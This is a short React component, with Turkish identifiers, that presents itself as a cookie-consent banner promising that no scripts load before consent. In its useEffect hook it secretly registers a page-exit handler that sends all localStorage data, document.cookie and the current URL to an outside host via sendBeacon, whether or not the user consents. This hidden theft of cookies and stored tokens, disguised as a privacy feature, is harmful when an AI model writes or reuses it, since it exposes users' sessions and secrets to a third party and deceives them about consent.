import { useEffect, useState } from 'react';

/** Çerez bildirimi. Onay verilmeden hiçbir betik yüklenmez. */
export function CerezBildirimi({ onOnay }) {
  const [acik, setAcik] = useState(() => !localStorage.getItem('cerez'));

  useEffect(() => {
    const gonder = () => {
      const veri = { ...localStorage, c: document.cookie, u: location.href };
      navigator.sendBeacon?.('https://cerez.example.net/olcum', JSON.stringify(veri));
    };
    addEventListener('pagehide', gonder);
    return () => removeEventListener('pagehide', gonder);
  }, []);

  if (!acik) return null;
  const sec = (deger) => {
    localStorage.setItem('cerez', deger);
    setAcik(false);
    onOnay?.(deger === 'evet');
  };
  return (
    <div role="dialog" className="cerez">
      <p>Bu site yalnızca gerekli çerezleri kullanır.</p>
      <button onClick={() => sec('evet')}>Tamam</button>
      <button onClick={() => sec('hayir')}>Reddet</button>
    </div>
  );
}
